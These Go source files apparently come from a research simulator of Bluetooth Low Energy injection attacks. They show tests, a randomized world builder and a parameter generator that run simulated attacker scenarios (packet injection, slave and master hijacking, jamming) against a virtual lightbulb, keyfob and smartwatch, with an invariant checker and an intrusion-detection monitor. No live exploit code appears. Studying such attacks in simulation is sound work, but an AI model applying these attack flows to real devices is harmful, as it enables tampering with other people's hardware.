	sum, err := Swarm(SwarmConfig{SeedBase: swarmSeedBase, Worlds: worlds})
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range sum.Errors {
		t.Errorf("world error: %v", e)
	}
	for _, f := range sum.Failures {
		t.Errorf("seed %d (%v): %d violations, first: %v\nrepro: go run ./cmd/simtest -seed %d",
			f.Seed, f.Params, len(f.Violations)+f.Truncated, f.Violations[0], f.Seed)
	}
	// The swarm must actually exercise the stack, not vacuously pass.
	if sum.Connected < worlds/2 {
		t.Fatalf("only %d/%d worlds connected — generator ranges are off", sum.Connected, worlds)
	}
	if len(sum.ByScenario) < 3 {
		t.Fatalf("scenario coverage too thin: %v", sum.ByScenario)
	}
	t.Logf("%d worlds, %d connected, scenarios %v", worlds, sum.Connected, sum.ByScenario)
}

// TestSwarmDeterministicAcrossWorkers reruns the same seed range at
// several worker counts and requires byte-identical world fingerprints.
func TestSwarmDeterministicAcrossWorkers(t *testing.T) {
	worlds := 24
	if testing.Short() {
		worlds = 8
	}
	run := func(workers int) []string {
		var fps []string
		_, err := Swarm(SwarmConfig{
			SeedBase: swarmSeedBase,
			Worlds:   worlds,
			Parallel: workers,
			OnResult: func(r Result) { fps = append(fps, r.Fingerprint()) },
		})
		if err != nil {
			t.Fatal(err)
		}
		if len(fps) != worlds {
			t.Fatalf("workers=%d delivered %d/%d results", workers, len(fps), worlds)
		}
		return fps
	}
	want := run(1)
	for _, workers := range []int{3, 8} {
		got := run(workers)
		for i := range want {
			if got[i] != want[i] {
				t.Fatalf("workers=%d: world %d diverged from serial run:\nserial: %s\n%d-way: %s",
					workers, i, want[i], workers, got[i])
			}
		}
	}
}

// TestBrokenWideningCaught is the engine's self-test: a slave whose
// widening is silently tightened below eq. 4/5 must be flagged.
func TestBrokenWideningCaught(t *testing.T) {
	p := DefaultParams()
	p.BreakWidening = 0.5
	r, err := RunWorld(7, p)
	if err != nil {
		t.Fatal(err)
	}
	if !r.Failed() {
		t.Fatal("tightened widening went undetected")
	}
	found := false
	for _, v := range r.Violations {
		if v.Invariant == "widening-eq4" {
			found = true
			break
		}
	}
	if !found {
		t.Fatalf("expected a widening-eq4 violation, got: %v", r.Violations)
	}
}

// TestBrokenWideningShrinksToMinimalRepro plants the widening fault in a
// messy generated world and requires the shrinker to isolate it to a ≤3
// parameter repro with a runnable command line.
func TestBrokenWideningShrinksToMinimalRepro(t *testing.T) {
	const seed = 99
	p := Generate(seed) // a fully random world...
	p.BreakWidening = 0.5
	p.Scenario = "none" // ...kept cheap to rerun while shrinking

	s, err := Shrink(seed, p)
	if err != nil {
		t.Fatal(err)
	}
	if !s.Final.Failed() {
		t.Fatal("shrunk world no longer fails")
	}
	diff := s.Minimal.Diff()
	if len(diff) > 3 {
		t.Fatalf("minimal repro has %d parameters, want ≤3: %v", len(diff), diff)
	}
	hasBreak := false
	for _, d := range diff {
		if strings.HasPrefix(d, "breakWidening=") {
			hasBreak = true
		}
	}
	if !hasBreak {
		t.Fatalf("shrinker dropped the causative parameter: %v", diff)
	}
	repro := s.ReproCommand()
	if !strings.Contains(repro, "-seed 99") || !strings.Contains(repro, "breakWidening") {
		t.Fatalf("repro command incomplete: %s", repro)
	}
	t.Logf("shrunk in %d runs to: %s", s.Runs, repro)
}

// TestShrinkPassingWorldIsIdentity: shrinking a healthy world returns it
// unchanged and reports the passing run.
func TestShrinkPassingWorld(t *testing.T) {
	s, err := Shrink(3, DefaultParams())
	if err != nil {
		t.Fatal(err)
	}
	if s.Final.Failed() {
		t.Fatalf("default world fails: %v", s.Final.Violations)
	}
	if s.Runs != 1 || len(s.Minimal.Diff()) != 0 {
		t.Fatalf("passing world was mutated: runs=%d diff=%v", s.Runs, s.Minimal.Diff())
	}
}

// TestGenerateDeterministic: the parameter vector is a pure function of
// the seed.
func TestGenerateDeterministic(t *testing.T) {
	for seed := uint64(0); seed < 20; seed++ {
		a, b := Generate(seed), Generate(seed)
		if a != b {
			t.Fatalf("seed %d: %+v != %+v", seed, a, b)
		}
		if err := a.validate(); err != nil {
			t.Fatalf("seed %d generated an invalid vector: %v", seed, err)
		}
	}
	if Generate(1) == Generate(2) {
		t.Fatal("distinct seeds generated identical worlds")
	}
}

// TestParamsSetDiffRoundTrip: applying a Diff to defaults reconstructs the
// original vector (the property the repro command depends on).
func TestParamsSetDiffRoundTrip(t *testing.T) {
	for seed := uint64(0); seed < 10; seed++ {
		orig := Generate(seed)
		rebuilt := DefaultParams()
		for _, d := range orig.Diff() {
			key, value, ok := strings.Cut(d, "=")
			if !ok {
				t.Fatalf("malformed diff entry %q", d)
			}
			if err := rebuilt.Set(key, value); err != nil {
				t.Fatal(err)
			}
		}
		if rebuilt != orig {
			t.Fatalf("seed %d: rebuilt %+v != original %+v", seed, rebuilt, orig)
		}
	}
	var p Params
	if err := p.Set("nonsense", "1"); err == nil {
		t.Fatal("unknown parameter accepted")
	}
	if err := p.Set("interval", "zebra"); err == nil {
		t.Fatal("malformed value accepted")
	}
}

// TestCSAReferenceAgainstStack cross-checks the naive reference selectors
// against the production csa package on random maps (a meta-test: if these
// ever diverge, the csa-channel invariant is checking the wrong thing).
func TestCSAReferenceAgainstStack(t *testing.T) {
	// Covered from the other side by the swarm (every window compares the
	// live selector with the reference); here just pin a few known values.
	if ch := refCSA1Channel(0, 7, 1<<37-1); ch != 7 {
		t.Fatalf("CSA#1 event 0 hop 7 = %d, want 7", ch)
	}
	if ch := refCSA1Channel(1, 7, 1<<37-1); ch != 14 {
		t.Fatalf("CSA#1 event 1 hop 7 = %d, want 14", ch)
	}
	// permute bit-reverses within each byte, keeping the bytes in place.
	if m := refPermute(0x0102); m != 0x8040 {
		t.Fatalf("permute(0x0102) = %#x, want 0x8040", m)
	}
}
