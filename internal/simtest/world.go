package simtest

import (
	"fmt"
	"sort"
	"strings"

	"injectable/internal/att"
	"injectable/internal/ble"
	"injectable/internal/devices"
	"injectable/internal/gatt"
	"injectable/internal/host"
	"injectable/internal/ids"
	"injectable/internal/injectable"
	"injectable/internal/link"
	"injectable/internal/medium"
	"injectable/internal/obs"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// Result is the outcome of one checked world.
type Result struct {
	Seed   uint64
	Params Params

	// Connected: the phone reached an established connection (worlds with
	// jammers or tight clocks may legitimately fail to connect).
	Connected bool
	// SnifferSynced: the attacker's sniffer was following the connection
	// when the attack phase started (attack scenarios only).
	SnifferSynced bool
	// Windows counts slave receive windows the checker inspected.
	Windows int
	// InjectTx counts attacker transmissions, Records the forensics
	// entries reconciled against them.
	InjectTx int
	Records  int
	// AttackDone/AttackSuccess: the scenario's completion callback fired /
	// reported success (invariants are checked regardless).
	AttackDone    bool
	AttackSuccess bool
	// IDSAlerts counts monitor alerts by kind (IDS worlds only).
	IDSAlerts map[ids.AlertKind]int

	Violations []Violation
	Truncated  int
}

// Failed reports whether any invariant was violated.
func (r Result) Failed() bool { return len(r.Violations) > 0 }

// InjectionAlerts sums the injection-class IDS alerts (the §VIII
// detector's positive signal).
func (r Result) InjectionAlerts() int {
	return r.IDSAlerts[ids.AlertDoubleFrame] + r.IDSAlerts[ids.AlertAnchorDeviation] +
		r.IDSAlerts[ids.AlertRogueUpdate] + r.IDSAlerts[ids.AlertScheduleSplit]
}

// Fingerprint is a deterministic digest of everything observable about the
// run — two runs of the same seed must produce equal fingerprints
// regardless of worker count or host.
func (r Result) Fingerprint() string {
	var b strings.Builder
	fmt.Fprintf(&b, "seed=%d connected=%t synced=%t windows=%d injectTx=%d records=%d done=%t success=%t",
		r.Seed, r.Connected, r.SnifferSynced, r.Windows, r.InjectTx, r.Records,
		r.AttackDone, r.AttackSuccess)
	kinds := make([]string, 0, len(r.IDSAlerts))
	for k := range r.IDSAlerts {
		kinds = append(kinds, string(k))
	}
	sort.Strings(kinds)
	for _, k := range kinds {
		fmt.Fprintf(&b, " %s=%d", k, r.IDSAlerts[ids.AlertKind(k)])
	}
	fmt.Fprintf(&b, " violations=%d+%d", len(r.Violations), r.Truncated)
	for _, v := range r.Violations {
		fmt.Fprintf(&b, "\n%v", v)
	}
	return b.String()
}

// RunWorld builds and runs one world under the invariant engine. The error
// return is construction-level only (invalid parameters); invariant
// breaches and failed connections are reported in the Result.
func RunWorld(seed uint64, p Params) (Result, error) {
	if err := p.validate(); err != nil {
		return Result{}, err
	}
	res := Result{Seed: seed, Params: p}

	// The checker must exist before the world (it is the world's tracer),
	// but needs the world's clock; close over the late-bound pointer.
	var w *host.World
	ck := NewChecker(func() sim.Time { return w.Sched.Now() }, p.WideningScale)
	hub := obs.NewHub()
	w = host.NewWorld(host.WorldConfig{Seed: seed, Tracer: ck, Obs: hub})
	w.Medium.AddObserver(ck)
	w.Medium.SetDeliverObserver(ck.OnDeliver)

	// Victim peripheral at the origin. BreakWidening is the fault-injection
	// backdoor: the device's widening scale is changed behind the checker's
	// back, which must surface as a widening-eq4 violation.
	deviceScale := p.WideningScale
	if p.BreakWidening > 0 {
		eff := deviceScale
		if eff <= 0 {
			eff = 1
		}
		deviceScale = eff * p.BreakWidening
	}
	targetDev := w.NewDevice(host.DeviceConfig{
		Name:          p.Target,
		Position:      phy.Position{},
		ClockPPM:      p.TargetPPM,
		ClockJitter:   usDuration(p.TargetJitterUS),
		WideningScale: deviceScale,
	})
	var (
		target *host.Peripheral
		bulb   *devices.Lightbulb
		fob    *devices.Keyfob
		watch  *devices.Smartwatch
	)
	switch p.Target {
	case "lightbulb":
		bulb = devices.NewLightbulb(targetDev)
		target = bulb.Peripheral
	case "keyfob":
		fob = devices.NewKeyfob(targetDev)
		target = fob.Peripheral
	case "smartwatch":
		watch = devices.NewSmartwatch(targetDev)
		target = watch.Peripheral
	}
	target.OnConnect = func(conn *link.Conn) { ck.WatchConn(p.Target, conn) }

	// Phone central opposite the attacker.
	chMap := ble.AllChannels
	for ch := 0; ch < p.UnusedChans; ch++ {
		chMap = chMap.Without(uint8(ch))
	}
	activity := sim.Duration(-1)
	if p.ActivityMS > 0 {
		activity = sim.Duration(p.ActivityMS) * sim.Millisecond
	}
	phone := devices.NewSmartphone(w.NewDevice(host.DeviceConfig{
		Name:        "phone",
		Position:    phy.Position{X: p.PhoneDist},
		ClockPPM:    p.PhonePPM,
		ClockJitter: usDuration(p.PhoneJitterUS),
	}), devices.SmartphoneConfig{
		ConnParams: link.ConnParams{
			Interval:   p.Interval,
			Latency:    p.Latency,
			Hop:        p.Hop,
			CSA2:       p.CSA2,
			ChannelMap: chMap,
		},
		ActivityInterval: activity,
	})

	var attacker *injectable.Attacker
	if p.Scenario != "none" {
		atk := w.NewDevice(host.DeviceConfig{
			Name: "attacker", Position: phy.Position{X: -p.AttackerDist},
			ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond,
		})
		attacker = injectable.NewAttacker(atk.Stack, injectable.InjectorConfig{})
		attacker.Injector.OnAttempt = func(a injectable.Attempt) {
			ck.CheckAttemptOutcome(string(a.Outcome))
		}
	}

	var monitor *ids.Monitor
	if p.IDS {
		monitor = ids.New(ids.Config{})
		w.Medium.AddObserver(monitor)
	}

	if p.Bystander {
		// An unrelated advertiser sharing the band: its traffic must never
		// confuse the connection's invariants.
		by := devices.NewLightbulb(w.NewDevice(host.DeviceConfig{
			Name: "bystander", Position: phy.Position{X: 1.5, Y: 2.5},
		}))
		by.Peripheral.StartAdvertising()
	}
	if p.Jammer {
		startJammer(w)
	}

	// Bring the connection up.
	if attacker != nil {
		attacker.Sniffer.Start()
	}
	target.StartAdvertising()
	phone.Connect(target.Device.Address())
	w.RunFor(3 * sim.Second)
	res.Connected = phone.Central.Connected()

	// Attack phase.
	if attacker != nil {
		res.SnifferSynced = attacker.Sniffer.Following()
	}
	if res.Connected && attacker != nil && res.SnifferSynced {
		switch p.Scenario {
		case "inject":
			handle, value := featureWrite(p.Target, bulb, fob, watch)
			err := attacker.InjectWrite(handle, value, func(r injectable.Report) {
				res.AttackDone = true
				res.AttackSuccess = r.Success
			})
			if err != nil {
				return res, fmt.Errorf("simtest: inject: %w", err)
			}
		case "hijack-slave":
			err := attacker.HijackSlave(simtestServer(), func(h *injectable.SlaveHijack, e error) {
				res.AttackDone = true
				res.AttackSuccess = e == nil && h != nil
			})
			if err != nil {
				return res, fmt.Errorf("simtest: hijack-slave: %w", err)
			}
		case "hijack-master":
			err := attacker.HijackMaster(injectable.UpdateParams{},
				func(h *injectable.MasterHijack, e error) {
					res.AttackDone = true
					res.AttackSuccess = e == nil && h != nil
				})
			if err != nil {
				return res, fmt.Errorf("simtest: hijack-master: %w", err)
			}
		}
	}
	w.RunFor(sim.Duration(p.RunSeconds) * sim.Second)

	ck.Finish(hub.Ledger)
	res.Windows = ck.Windows()
	res.InjectTx = ck.InjectTxCount()
	res.Records = len(hub.Ledger.Records())
	if monitor != nil {
		res.IDSAlerts = make(map[ids.AlertKind]int)
		for _, a := range monitor.Alerts() {
			res.IDSAlerts[a.Kind]++
		}
	}
	res.Violations = ck.Violations()
	res.Truncated = ck.Truncated()
	return res, nil
}

// usDuration converts fractional microseconds to a sim.Duration.
func usDuration(us float64) sim.Duration {
	return sim.Duration(us * float64(sim.Microsecond))
}

// featureWrite picks the scenario-A write for the generated target.
func featureWrite(name string, bulb *devices.Lightbulb, fob *devices.Keyfob, watch *devices.Smartwatch) (uint16, []byte) {
	switch name {
	case "lightbulb":
		return bulb.ControlHandle(), devices.PowerCommand(true)
	case "keyfob":
		return fob.AlertHandle(), devices.RingCommand()
	default:
		return watch.SMSHandle(), []byte("simtest")
	}
}

// simtestServer is the minimal GATT profile the slave hijack serves.
func simtestServer() *gatt.Server {
	srv := gatt.NewServer(func([]byte) {})
	srv.AddService(&gatt.Service{
		UUID: att.UUID16(0x1800),
		Characteristics: []*gatt.Characteristic{{
			UUID: att.UUID16(0x2A00), Properties: gatt.PropRead, Value: []byte("simtest"),
		}},
	})
	return srv
}

// startJammer schedules periodic wideband noise bursts cycling across the
// data channels: 2 ms of noise every 30 ms from a dedicated raw radio.
func startJammer(w *host.World) {
	radio := w.Medium.NewRadio(medium.RadioConfig{
		Name: "jammer", Position: phy.Position{Y: -4},
	})
	const (
		burst  = 2 * sim.Millisecond
		period = 30 * sim.Millisecond
	)
	ch := phy.Channel(0)
	var fire func()
	fire = func() {
		radio.SetChannel(ch)
		radio.TransmitNoise(burst)
		ch = phy.Channel((int(ch) + 7) % 37)
		w.Sched.After(period, "jammer:burst", fire)
	}
	w.Sched.After(period, "jammer:burst", fire)
}
