package simtest

import (
	"fmt"
	"sort"
	"strings"

	"injectable/internal/att"
	"injectable/internal/ble"
	"injectable/internal/devices"
	"injectable/internal/gatt"
	"injectable/internal/host"
	"injectable/internal/ids"
	"injectable/internal/injectable"
	"injectable/internal/link"
	"injectable/internal/medium"
	"injectable/internal/obs"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// Result is the outcome of one checked world.
type Result struct {
	Seed   uint64
	Params Params

	// Connected: the phone reached an established connection (worlds with
	// jammers or tight clocks may legitimately fail to connect).
	Connected bool
	// SnifferSynced: the attacker's sniffer was following the connection
	// when the attack phase started (attack scenarios only).
	SnifferSynced bool
	// Windows counts slave receive windows the checker inspected.
	Windows int
	// InjectTx counts attacker transmissions, Records the forensics
	// entries reconciled against them.
	InjectTx int
	Records  int
	// AttackDone/AttackSuccess: the scenario's completion callback fired /
	// reported success (invariants are checked regardless).
	AttackDone    bool
	AttackSuccess bool
	// IDSAlerts counts monitor alerts by kind (IDS worlds only).
	IDSAlerts map[ids.AlertKind]int

	Violations []Violation
	Truncated  int
}

// Failed reports whether any invariant was violated.
func (r Result) Failed() bool { return len(r.Violations) > 0 }

// InjectionAlerts sums the injection-class IDS alerts (the §VIII
// detector's positive signal).
func (r Result) InjectionAlerts() int {
	return r.IDSAlerts[ids.AlertDoubleFrame] + r.IDSAlerts[ids.AlertAnchorDeviation] +
		r.IDSAlerts[ids.AlertRogueUpdate] + r.IDSAlerts[ids.AlertScheduleSplit]
}

// Fingerprint is a deterministic digest of everything observable about the
// run — two runs of the same seed must produce equal fingerprints
// regardless of worker count or host.
func (r Result) Fingerprint() string {
	var b strings.Builder
	fmt.Fprintf(&b, "seed=%d connected=%t synced=%t windows=%d injectTx=%d records=%d done=%t success=%t",
		r.Seed, r.Connected, r.SnifferSynced, r.Windows, r.InjectTx, r.Records,
		r.AttackDone, r.AttackSuccess)
	kinds := make([]string, 0, len(r.IDSAlerts))
	for k := range r.IDSAlerts {
		kinds = append(kinds, string(k))
	}
	sort.Strings(kinds)
	for _, k := range kinds {
		fmt.Fprintf(&b, " %s=%d", k, r.IDSAlerts[ids.AlertKind(k)])
	}
	fmt.Fprintf(&b, " violations=%d+%d", len(r.Violations), r.Truncated)
	for _, v := range r.Violations {
		fmt.Fprintf(&b, "\n%v", v)
	}
	return b.String()
}

// liveWorld is one built world with every piece of mutable run state in
// struct fields. The snapshot engine reaches state through fields, slices
// and maps — not through closure variables — so anything a callback
// mutates (the result record the attack completion callbacks write, the
// jammer's channel cursor) must hang off this struct, which is registered
// as a snapshot root. That is what lets ForkCheck roll a half-run world
// back and replay it.
type liveWorld struct {
	res Result

	w        *host.World
	ck       *Checker
	hub      *obs.Hub
	target   *host.Peripheral
	bulb     *devices.Lightbulb
	fob      *devices.Keyfob
	watch    *devices.Smartwatch
	phone    *devices.Smartphone
	attacker *injectable.Attacker
	monitor  *ids.Monitor
	jam      *jammer
}

// RunWorld builds and runs one world under the invariant engine. The error
// return is construction-level only (invalid parameters); invariant
// breaches and failed connections are reported in the Result.
func RunWorld(seed uint64, p Params) (Result, error) {
	lw, err := buildWorld(seed, p)
	if err != nil {
		return Result{}, err
	}
	lw.start(p)
	if err := lw.attack(p); err != nil {
		return lw.res, err
	}
	lw.w.RunFor(sim.Duration(p.RunSeconds) * sim.Second)
	return lw.collect(), nil
}

// buildWorld constructs the world, devices and observers for p without
// running any simulated time.
func buildWorld(seed uint64, p Params) (*liveWorld, error) {
	if err := p.validate(); err != nil {
		return nil, err
	}
	lw := &liveWorld{res: Result{Seed: seed, Params: p}}

	// The checker must exist before the world (it is the world's tracer),
	// but needs the world's clock; close over the late-bound pointer.
	var w *host.World
	ck := NewChecker(func() sim.Time { return w.Sched.Now() }, p.WideningScale)
	hub := obs.NewHub()
	w = host.NewWorld(host.WorldConfig{Seed: seed, Tracer: ck, Obs: hub})
	w.Medium.AddObserver(ck)
	w.Medium.SetDeliverObserver(ck.OnDeliver)
	lw.w, lw.ck, lw.hub = w, ck, hub

	// Victim peripheral at the origin. BreakWidening is the fault-injection
	// backdoor: the device's widening scale is changed behind the checker's
	// back, which must surface as a widening-eq4 violation.
	deviceScale := p.WideningScale
	if p.BreakWidening > 0 {
		eff := deviceScale
		if eff <= 0 {
			eff = 1
		}
		deviceScale = eff * p.BreakWidening
	}
	targetDev := w.NewDevice(host.DeviceConfig{
		Name:          p.Target,
		Position:      phy.Position{},
		ClockPPM:      p.TargetPPM,
		ClockJitter:   usDuration(p.TargetJitterUS),
		WideningScale: deviceScale,
	})
	switch p.Target {
	case "lightbulb":
		lw.bulb = devices.NewLightbulb(targetDev)
		lw.target = lw.bulb.Peripheral
	case "keyfob":
		lw.fob = devices.NewKeyfob(targetDev)
		lw.target = lw.fob.Peripheral
	case "smartwatch":
		lw.watch = devices.NewSmartwatch(targetDev)
		lw.target = lw.watch.Peripheral
	}
	lw.target.OnConnect = func(conn *link.Conn) { ck.WatchConn(p.Target, conn) }

	// Phone central opposite the attacker.
	chMap := ble.AllChannels
	for ch := 0; ch < p.UnusedChans; ch++ {
		chMap = chMap.Without(uint8(ch))
	}
	activity := sim.Duration(-1)
	if p.ActivityMS > 0 {
		activity = sim.Duration(p.ActivityMS) * sim.Millisecond
	}
	lw.phone = devices.NewSmartphone(w.NewDevice(host.DeviceConfig{
		Name:        "phone",
		Position:    phy.Position{X: p.PhoneDist},
		ClockPPM:    p.PhonePPM,
		ClockJitter: usDuration(p.PhoneJitterUS),
	}), devices.SmartphoneConfig{
		ConnParams: link.ConnParams{
			Interval:   p.Interval,
			Latency:    p.Latency,
			Hop:        p.Hop,
			CSA2:       p.CSA2,
			ChannelMap: chMap,
		},
		ActivityInterval: activity,
	})

	if p.Scenario != "none" {
		atk := w.NewDevice(host.DeviceConfig{
			Name: "attacker", Position: phy.Position{X: -p.AttackerDist},
			ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond,
		})
		lw.attacker = injectable.NewAttacker(atk.Stack, injectable.InjectorConfig{})
		lw.attacker.Injector.OnAttempt = func(a injectable.Attempt) {
			ck.CheckAttemptOutcome(string(a.Outcome))
		}
	}

	if p.IDS {
		lw.monitor = ids.New(ids.Config{})
		w.Medium.AddObserver(lw.monitor)
	}

	if p.Bystander {
		// An unrelated advertiser sharing the band: its traffic must never
		// confuse the connection's invariants.
		by := devices.NewLightbulb(w.NewDevice(host.DeviceConfig{
			Name: "bystander", Position: phy.Position{X: 1.5, Y: 2.5},
		}))
		by.Peripheral.StartAdvertising()
	}
	if p.Jammer {
		lw.jam = startJammer(w)
	}
	w.AddSnapshotRoot(lw)
	return lw, nil
}

// start brings the connection up: 3 s of simulated time covering
// advertising, CONNECT_REQ and sniffer synchronisation.
func (lw *liveWorld) start(p Params) {
	if lw.attacker != nil {
		lw.attacker.Sniffer.Start()
	}
	lw.target.StartAdvertising()
	lw.phone.Connect(lw.target.Device.Address())
	lw.w.RunFor(3 * sim.Second)
	lw.res.Connected = lw.phone.Central.Connected()
	if lw.attacker != nil {
		lw.res.SnifferSynced = lw.attacker.Sniffer.Following()
	}
}

// attack launches the scenario's attacker activity (if the connection and
// sniffer are up). Completion callbacks write into lw.res — snapshot-visible
// fields, so a forked world re-reports completion on replay.
func (lw *liveWorld) attack(p Params) error {
	if !lw.res.Connected || lw.attacker == nil || !lw.res.SnifferSynced {
		return nil
	}
	switch p.Scenario {
	case "inject":
		handle, value := featureWrite(p.Target, lw.bulb, lw.fob, lw.watch)
		err := lw.attacker.InjectWrite(handle, value, func(r injectable.Report) {
			lw.res.AttackDone = true
			lw.res.AttackSuccess = r.Success
		})
		if err != nil {
			return fmt.Errorf("simtest: inject: %w", err)
		}
	case "hijack-slave":
		err := lw.attacker.HijackSlave(simtestServer(), func(h *injectable.SlaveHijack, e error) {
			lw.res.AttackDone = true
			lw.res.AttackSuccess = e == nil && h != nil
		})
		if err != nil {
			return fmt.Errorf("simtest: hijack-slave: %w", err)
		}
	case "hijack-master":
		err := lw.attacker.HijackMaster(injectable.UpdateParams{},
			func(h *injectable.MasterHijack, e error) {
				lw.res.AttackDone = true
				lw.res.AttackSuccess = e == nil && h != nil
			})
		if err != nil {
			return fmt.Errorf("simtest: hijack-master: %w", err)
		}
	}
	return nil
}

// collect reconciles the ledger and freezes the result. Everything it
// writes lives in snapshot-visible state (lw.res, the checker), so a fork
// taken before collect replays through an identical collect.
func (lw *liveWorld) collect() Result {
	lw.ck.Finish(lw.hub.Ledger)
	lw.res.Windows = lw.ck.Windows()
	lw.res.InjectTx = lw.ck.InjectTxCount()
	lw.res.Records = len(lw.hub.Ledger.Records())
	if lw.monitor != nil {
		lw.res.IDSAlerts = make(map[ids.AlertKind]int)
		for _, a := range lw.monitor.Alerts() {
			lw.res.IDSAlerts[a.Kind]++
		}
	}
	lw.res.Violations = lw.ck.Violations()
	lw.res.Truncated = lw.ck.Truncated()
	return lw.res
}

// usDuration converts fractional microseconds to a sim.Duration.
func usDuration(us float64) sim.Duration {
	return sim.Duration(us * float64(sim.Microsecond))
}

// featureWrite picks the scenario-A write for the generated target.
func featureWrite(name string, bulb *devices.Lightbulb, fob *devices.Keyfob, watch *devices.Smartwatch) (uint16, []byte) {
	switch name {
	case "lightbulb":
		return bulb.ControlHandle(), devices.PowerCommand(true)
	case "keyfob":
		return fob.AlertHandle(), devices.RingCommand()
	default:
		return watch.SMSHandle(), []byte("simtest")
	}
}

// simtestServer is the minimal GATT profile the slave hijack serves.
func simtestServer() *gatt.Server {
	srv := gatt.NewServer(func([]byte) {})
	srv.AddService(&gatt.Service{
		UUID: att.UUID16(0x1800),
		Characteristics: []*gatt.Characteristic{{
			UUID: att.UUID16(0x2A00), Properties: gatt.PropRead, Value: []byte("simtest"),
		}},
	})
	return srv
}

// jammer emits periodic wideband noise bursts cycling across the data
// channels: 2 ms of noise every 30 ms from a dedicated raw radio. Its
// channel cursor is a struct field rather than a closure variable so that
// world snapshots capture it: each scheduled burst is the method value
// j.fire, whose only captured state is j itself (a snapshot root via
// liveWorld).
type jammer struct {
	w     *host.World
	radio *medium.Radio
	ch    phy.Channel
}

const (
	jammerBurst  = 2 * sim.Millisecond
	jammerPeriod = 30 * sim.Millisecond
)

// startJammer builds the jammer and schedules its first burst.
func startJammer(w *host.World) *jammer {
	j := &jammer{
		w: w,
		radio: w.Medium.NewRadio(medium.RadioConfig{
			Name: "jammer", Position: phy.Position{Y: -4},
		}),
	}
	w.Sched.After(jammerPeriod, "jammer:burst", j.fire)
	return j
}

// fire transmits one burst, advances the channel cursor and reschedules.
func (j *jammer) fire() {
	j.radio.SetChannel(j.ch)
	j.radio.TransmitNoise(jammerBurst)
	j.ch = phy.Channel((int(j.ch) + 7) % 37)
	j.w.Sched.After(jammerPeriod, "jammer:burst", j.fire)
}
