// Package simtest is the repository's correctness backstop: a deterministic
// randomized-world generator, a cross-layer invariant engine checking the
// paper's quantitative laws (eqs. 1–7) on every event, and a shrinker that
// reduces a failing world to a minimal parameter diff with a one-line repro.
//
// Every world is derived from a single sim.RNG seed, so a violation report
// is reproducible from its seed alone:
//
//	go run ./cmd/simtest -seed N -shrink
package simtest

import (
	"fmt"
	"sort"
	"strconv"
	"strings"

	"injectable/internal/sim"
)

// Params is the generator's parameter vector: everything that varies
// between randomized worlds. The zero-adjacent DefaultParams() value is the
// paper's triangle topology with phone-typical connection parameters; the
// shrinker minimises failing worlds toward it field by field.
type Params struct {
	// Target picks the victim peripheral: lightbulb, keyfob or smartwatch.
	Target string
	// Scenario drives the attacker: none, inject, hijack-slave or
	// hijack-master. "none" worlds have no attacker device at all.
	Scenario string

	// Connection parameters proposed by the phone's CONNECT_REQ.
	Interval    uint16 // × 1.25 ms
	Latency     uint16 // slave latency in events
	Hop         uint8  // CSA#1 hop increment, 5..16
	CSA2        bool   // channel selection algorithm #2
	UnusedChans int    // data channels removed from the channel map

	// Clocks (eq. 4 inputs) and geometry.
	TargetPPM      float64
	PhonePPM       float64
	TargetJitterUS float64
	PhoneJitterUS  float64
	PhoneDist      float64 // metres from the target
	AttackerDist   float64 // metres from the target (opposite side)

	// Traffic and environment.
	ActivityMS int  // phone GATT activity period in ms (0 = none)
	Bystander  bool // an extra advertising peripheral sharing the band
	Jammer     bool // periodic wideband noise bursts on a data channel
	IDS        bool // attach the passive monitor (ids.Monitor)

	// WideningScale is the legitimate §VIII countermeasure: the slave
	// scales its receive-window widening and the checker knows it does
	// (0 = spec behaviour, scale 1).
	WideningScale float64

	// RunSeconds bounds the post-connection simulation time.
	RunSeconds int

	// BreakWidening is a fault-injection knob for self-testing the
	// invariant engine: the target device's widening is silently scaled
	// by this factor WITHOUT telling the checker — exactly the "widening
	// bound tightened below eq. 4/5" regression the engine must catch.
	// 0 = off.
	BreakWidening float64
}

// DefaultParams returns the baseline world: the paper's triangle topology
// (2 m edges), phone-default interval 36, spec widening, no attacker.
func DefaultParams() Params {
	return Params{
		Target:         "lightbulb",
		Scenario:       "none",
		Interval:       36,
		Latency:        0,
		Hop:            7,
		CSA2:           false,
		UnusedChans:    0,
		TargetPPM:      50,
		PhonePPM:       50,
		TargetJitterUS: 1,
		PhoneJitterUS:  1,
		PhoneDist:      2,
		AttackerDist:   2,
		ActivityMS:     500,
		Bystander:      false,
		Jammer:         false,
		IDS:            false,
		WideningScale:  0,
		RunSeconds:     8,
	}
}

// Targets lists the victim devices the generator draws from.
func Targets() []string { return []string{"lightbulb", "keyfob", "smartwatch"} }

// Scenarios lists the attacker behaviours the generator draws from.
func Scenarios() []string { return []string{"none", "inject", "hijack-slave", "hijack-master"} }

// Generate draws a world parameter vector from the seed's dedicated RNG
// stream. Equal seeds yield equal parameters; the stream is independent of
// the world's own simulation randomness (sim.RNG child-stream isolation).
func Generate(seed uint64) Params {
	rng := sim.NewRNG(seed).Child("simtest-gen")
	p := DefaultParams()

	p.Target = Targets()[rng.Intn(len(Targets()))]
	switch r := rng.Float64(); {
	case r < 0.30:
		p.Scenario = "none"
	case r < 0.72:
		p.Scenario = "inject"
	case r < 0.86:
		p.Scenario = "hijack-slave"
	default:
		p.Scenario = "hijack-master"
	}

	p.Interval = uint16(6 + rng.Intn(45)) // 7.5 .. 62.5 ms
	if rng.Bool(0.3) {
		p.Latency = uint16(1 + rng.Intn(4))
	}
	p.Hop = uint8(5 + rng.Intn(12))
	p.CSA2 = rng.Bool(0.25)
	if rng.Bool(0.4) {
		p.UnusedChans = 1 + rng.Intn(8)
	}

	p.TargetPPM = 10 + 140*rng.Float64()
	p.PhonePPM = 10 + 140*rng.Float64()
	p.TargetJitterUS = 0.2 + 2.8*rng.Float64()
	p.PhoneJitterUS = 0.2 + 2.8*rng.Float64()
	p.PhoneDist = 0.5 + 3.5*rng.Float64()
	p.AttackerDist = 0.5 + 5.5*rng.Float64()

	if rng.Bool(0.3) {
		p.ActivityMS = 0
	} else {
		p.ActivityMS = 100 + rng.Intn(900)
	}
	p.Bystander = rng.Bool(0.2)
	p.Jammer = rng.Bool(0.1)
	p.IDS = rng.Bool(0.25)
	if rng.Bool(0.15) {
		// Legitimate countermeasure worlds: the checker is told the scale,
		// so a scaled widening is NOT a violation (too small a scale may
		// break the connection, which is an outcome, not a bug).
		p.WideningScale = 0.5 + 1.5*rng.Float64()
	}
	p.RunSeconds = 6 + rng.Intn(9)
	return p
}
